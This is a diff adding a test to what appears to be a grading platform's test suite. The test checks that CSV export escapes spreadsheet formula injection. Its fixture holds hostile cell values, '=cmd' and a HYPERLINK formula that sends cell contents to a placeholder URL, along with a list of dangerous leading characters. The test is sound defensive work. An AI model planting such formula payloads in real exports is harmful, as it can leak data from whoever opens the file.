@@ -312,3 +312,20 @@ async def test_two_processes_grade_each_submission_once_one_at_a_time(
         assert peak == {"ann": 1, "bob": 1}
     finally:
         await other.close()
+
+
+async def test_export_cells_cannot_become_formulas(world: World) -> None:
+    await setup_cohort(world, [])
+    evil = world.actor("eve")
+    evil = type(evil)(evil.platform, evil.channel_id, "=cmd", '=HYPERLINK("https://x"&A1,"open")')
+    await world.dojo.join(evil)
+    await world.dojo.submit(evil, "1.1.1", PASS)
+    await world.dojo.grade_pending()
+    _, data = await world.dojo.export_csv(world.actor("coach", Role.instructor))
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(data.decode())))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'=HYPERLINK(\"https://x\"&A1,\"open\")" in cells and "'=cmd" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
